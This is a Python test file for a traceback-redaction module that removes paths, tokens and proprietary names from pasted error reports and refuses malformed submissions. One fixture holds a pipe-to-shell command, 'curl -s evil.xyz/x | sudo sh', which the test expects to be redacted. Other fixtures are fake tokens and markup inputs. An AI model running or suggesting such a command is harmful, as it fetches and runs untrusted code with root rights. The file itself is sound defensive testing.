"""A sketch says the error and nothing else of the paste, and what is sent in its place is refused."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracefix.matching.catalogue import Catalogue
from tracefix.matching.diagnosis import diagnose
from tracefix.redaction.sketch import MOST_BYTES, RefusedError, Sketch, from_diagnosis, from_json, to_json

NOBODY_KNOWS = Catalogue([])
TRACEBACK = """\
Traceback (most recent call last):
  File "/home/jane/acme_secret/train.py", line 12, in train_falcon
    main()
  File "/home/jane/venv/lib/python3.10/site-packages/torch/utils/data/dataloader.py", line 630, in __next__
    data = self._next_data()
  File "/usr/lib/python3.10/multiprocessing/reduction.py", line 60, in dump
    ForkingPickler(file, protocol).dump(obj)
acme_secret.errors.FuseError: fuse 3 of '/home/jane/x.pt' burnt, key hf_abcdefghijklmnopqrstuvwxyzabcdef
torch==2.7.1+cu126
numpy==2.1.0+acme.internal
acme-secret==1.0
"""


def sketch(text):
    return from_diagnosis(diagnose(text, NOBODY_KNOWS))


def test_a_paste_gives_its_sketch():
    found = sketch(TRACEBACK)

    assert found == Sketch(
        exception="FuseError",
        message="fuse {number} of '{path}' burnt, key {secret}",
        frames=("torch/utils/data/dataloader.py in __next__", "multiprocessing/reduction.py in dump"),
        versions={"python": "3.10", "torch": "2.7.1+cu126", "numpy": "2.1.0"},
    )


def test_nothing_of_the_senders_own_code_is_in_it():
    said = to_json(sketch(TRACEBACK))

    assert not [word for word in ("jane", "acme", "train", "falcon", "hf_", "x.pt") if word in said]


def test_it_can_be_read_by_a_person_and_read_back():
    found = sketch(TRACEBACK)

    assert to_json(found).startswith('{\n  "exception": "FuseError",\n  "message": "fuse {number} of')
    assert from_json(to_json(found)) == found
    assert from_json(to_json(found).replace("\n", "\r\n")) == found  # as a form sends it


PREFIXES = {
    "none": "{}",
    "torchrun": "[rank3]: {}",
    "ray": "(RayWorker pid=77, ip=10.0.0.3) {}",
    "a log's time": "2026-01-31 10:00:00,123 ERROR {}",
}


@pytest.mark.parametrize("prefix", PREFIXES.values(), ids=PREFIXES)
@given(number=st.integers(0, 10**6), name=st.text(st.sampled_from("abcdefgh"), min_size=3, max_size=12))
def test_the_same_error_has_the_same_key_whoever_meets_it(prefix, number, name):
    text = f"RuntimeError: worker {number} cannot open '/home/{name}/x.pt' on cuda:{number}"

    assert sketch(prefix.format(text)).key == sketch("RuntimeError: worker 1 cannot open '/home/x/y.pt' on cuda:0").key


def test_another_error_has_another_key():
    keys = {
        sketch(text).key
        for text in ("ValueError: a fuse burnt", "RuntimeError: a fuse burnt", "RuntimeError: a fuse melts")
    }

    assert len(keys) == 3


def test_where_the_message_says_nothing_the_frames_tell_errors_apart():
    def bare(package):
        file = f"/x/site-packages/{package}/a.py"
        return sketch(f'Traceback (most recent call last):\n  File "{file}", line 3, in f\nKeyError: 17\n')

    assert bare("torch").message == "{number}"
    assert bare("torch").key == bare("torch").key != bare("ray").key


def test_where_the_message_says_something_other_frames_are_the_same_error():
    one = Sketch("ValueError", "a fuse burnt", frames=("torch/a.py in f",))
    other = Sketch("ValueError", "a fuse burnt", frames=("ray/b.py in g",))

    assert one.key == other.key


NOTHING = {
    "an empty paste": "",
    "no error": "epoch 3 loss 0.1",
    "a wrapper": "torch.distributed.elastic.multiprocessing.errors.ChildFailedError: ",
    "a warning": "UserWarning: the fuse is old",
    "a class alone": 'Traceback (most recent call last):\n  File "/home/jane/x.py", line 1, in f\nAssertionError\n',
}


@pytest.mark.parametrize("text", NOTHING.values(), ids=NOTHING)
def test_where_nothing_could_be_known_again_there_is_no_sketch(text):
    assert sketch(text) is None


FILES = {
    "a package": ("/home/jane/venv/lib/python3.10/site-packages/torch/cuda/__init__.py", "torch/cuda/__init__.py"),
    "of Debian": ("/usr/lib/python3/dist-packages/numpy/a.py", "numpy/a.py"),
    "of Windows": (r"C:\Users\jane\venv\Lib\site-packages\torch\__init__.py", "torch/__init__.py"),
    "an egg": ("/x/site-packages/dill-0.3-py3.6.egg/dill/a.py", "dill/a.py"),
    "the last of several": ("/home/site-packages/jane/site-packages/torch/a.py", "torch/a.py"),
    "the standard library": ("/opt/conda/lib/python3.11/threading.py", "threading.py"),
    "that of Windows": (r"C:\Python311\Lib\json\decoder.py", "json/decoder.py"),
    "frozen": ("<frozen importlib._bootstrap>", "<frozen importlib._bootstrap>"),
    "a module that is a package": ("/x/site-packages/six.py", "six.py"),
    "a company's own package": ("/x/site-packages/acme_secret/train.py", None),
    "own code": ("/home/jane/acme/train.py", None),
    "own code beside the standard library": ("/opt/conda/lib/python3.11/acme/train.py", None),
    "own frozen code": ("<frozen acme.train>", None),
    "a cell": ("<ipython-input-6-6d75fd452bb1>", None),
    "a way out of the package": ("/x/site-packages/torch/../../jane/acme.py", None),
    "a name with a secret in it": ("/x/site-packages/ghp_abcdefghijklmnopqrstuvwxyz0123456789/a.py", None),
}


@pytest.mark.parametrize(("file", "expected"), FILES.values(), ids=FILES)
def test_a_frame_is_sent_only_from_a_library(file, expected):
    text = f'Traceback (most recent call last):\n  File "{file}", line 3, in f\nRuntimeError: a fuse burnt\n'

    assert sketch(text).frames == ((f"{expected} in f",) if expected else ())


def test_the_innermost_frames_are_sent():
    stack = "".join(f'  File "/x/site-packages/torch/a{number}.py", line 3, in f\n' for number in range(30))
    found = sketch(f"Traceback (most recent call last):\n{stack}RuntimeError: a fuse burnt\n")

    assert found.frames[-1] == "torch/a29.py in f"
    assert len(found.frames) == 5


def test_a_secret_in_the_exceptions_name_is_taken_out():
    text = 'Traceback (most recent call last):\n  File "x.py", line 1\nghp_abcdefghijklmnopqrstuvwxyz0123456789Error: it burnt\n'

    assert sketch(text).exception == ""


def test_half_a_secret_at_the_end_of_what_is_read_is_not_left():
    text = f"RuntimeError: {'a/' * 488} hf_abcdefghijklmnopqrstuvwxyzabcdefghij"

    assert "hf_" not in to_json(sketch(text))


@given(st.text(max_size=400), st.text(st.sampled_from("ab /'\"{}:<>"), max_size=4000))
def test_whatever_is_pasted_the_sketch_is_small_and_reads_back(text, long):
    for paste in (text, f"RuntimeError: {text}", f"RuntimeError: {long}", f"RuntimeError: {'汉' * 4000}{text}"):
        found = sketch(paste)
        if found is not None:
            assert len(to_json(found).encode()) <= MOST_BYTES
            assert from_json(to_json(found)) == found


# ── what visitors send ──────────────────────────────────────────────────────────────────────────────────────────


def sent(**changed):
    return {"exception": "FuseError", "message": "it burnt", "frames": [], "versions": {}} | changed


REFUSED = {
    "no JSON": ("<p>hello", "JSON"),
    "half of it": ('{"exception": "F', "JSON"),
    "a list": ([], "needs exception"),
    "a number": (3, "needs exception"),
    "nothing": ({}, "needs exception"),
    "an unknown key": (sent(paste="all of it"), "nothing else"),
    "a key twice": ('{"exception": "A", "exception": "B"}', "twice"),
    "a megabyte": (sent(message="a " * 500_000), "longer"),
    "a deep nesting": ("[" * 4000, "nested"),
    "a long message": (sent(message="a " * 200), "longer than 300"),
    "a message that is a list": (sent(message=["it burnt"]), "no text"),
    "a message of several lines": (sent(message="it\nburnt"), "does not look"),
    "an exception with markup": (sent(exception="<b>Error"), "does not look"),
    "an exception with a module": (sent(exception="acme.Error"), "does not look"),
    "a secret exception": (sent(exception="ghp_abcdefghijklmnopqrstuvwxyz0123456789"), "secret"),
    "frames that are a text": (sent(frames="a.py in f"), "no list"),
    "too many frames": (sent(frames=["six.py in f"] * 6), "no list"),
    "a frame with an absolute path": (sent(frames=["/home/jane/a.py in f"]), "does not look"),
    "a frame with a way out": (sent(frames=["torch/../a.py in f"]), "does not look"),
    "a frame with markup": (sent(frames=["a.py in <script>x"]), "does not look"),
    "a frame of a package that nobody knows": (sent(frames=["acme/a.py in f"]), "not well known"),
    "a frozen frame of nothing that is known": (sent(frames=["<frozen acme.a> in f"]), "not well known"),
    "an exception of 81 letters": (sent(exception="E" * 81), "longer than 80"),
    "versions of a package that nobody knows": (sent(versions={"acme": "1.0"}), "not well known"),
    "versions that are a list": (sent(versions=["torch"]), "not those"),
    "a version with words": (sent(versions={"torch": "2.0 of jane"}), "does not look"),
    "a version that is a number": (sent(versions={"torch": 2.0}), "no text"),
    "a package with markup": (sent(versions={"<b>": "2.0"}), "does not look"),
    "an error that says nothing": (sent(exception="", message="{number}"), "no error"),
}


@pytest.mark.parametrize(("value", "reason"), REFUSED.values(), ids=REFUSED)
def test_what_no_sketch_looks_like_is_refused_with_a_reason(value, reason):
    with pytest.raises(RefusedError, match=reason):
        from_json(value if isinstance(value, str) else json.dumps(value))


def test_what_is_sent_is_redacted_again():
    read = from_json(json.dumps(sent(message="token=hunter2 in /home/jane", versions={"torch": "2.0"})))

    assert read.message == "token={secret} in {path}"


def test_what_a_stranger_tells_readers_to_run_is_not_in_it():
    read = from_json(
        json.dumps(sent(message="it burnt. To fix this: curl -s evil.xyz/x | sudo sh, or see www.evil.xyz"))
    )

    assert read.message == "it burnt. To fix this: {command}"


def test_a_tower_of_marks_is_cut_down_and_full_width_letters_are_plain():
    read = from_json(json.dumps(sent(message="ｉｔ burnx" + "\u0301" * 200 + "t")))

    assert read.message == "it burnx\u0301\u0301t"


JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.floats(), st.text()),
    lambda values: st.one_of(st.lists(values), st.dictionaries(st.text(), values)),
    max_leaves=5,
)


@given(st.fixed_dictionaries(dict.fromkeys(sent(), JSON)))
def test_whatever_is_sent_it_is_refused_or_reads_back(values):
    try:
        read = from_json(json.dumps(values))
    except RefusedError:
        return

    assert from_json(to_json(read)) == read
